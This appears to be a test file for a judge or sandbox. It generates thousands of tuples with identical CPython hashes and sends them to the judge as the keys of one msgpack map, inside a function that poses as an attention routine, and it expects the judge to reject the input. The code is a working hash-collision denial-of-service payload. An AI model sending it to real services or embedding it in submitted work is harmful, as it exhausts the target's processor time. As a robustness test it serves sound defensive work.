# attacks: the judge's processor time, by dict keys that all have the same hash
# expect: stopped
# says: could not be read
from wire_tools import frame, sockets
from msgspec import msgpack

P1, P2, P5, M = 11400714785074694791, 14029467366897019727, 2870177450012600261, 2**64


def colliding(count):
    """Tuples of two numbers with equal hashes, worked out backwards through CPython's tuple hash."""
    inverse, target, found, first = pow(P2, -1, M), 12345, [], 0
    while len(found) < count:
        first += 1
        acc = (P5 + first * P2) % M
        acc = (acc << 31 | acc >> 33) % M * P1 % M
        second = (target - acc) * inverse % M
        if second < 2**61 - 1:
            found.append((first, second))
    return found


keys = colliding(20_000)
assert len({hash(key) for key in keys}) == 1


def attention_pattern(q, k):
    body = b"\xdf" + len(keys).to_bytes(4, "big") + b"".join(msgpack.encode(list(key)) + b"\x00" for key in keys)
    for sock in sockets():
        sock.sendall(frame(b"\x94\xa5reply\xa5value" + body + b"\x90"))
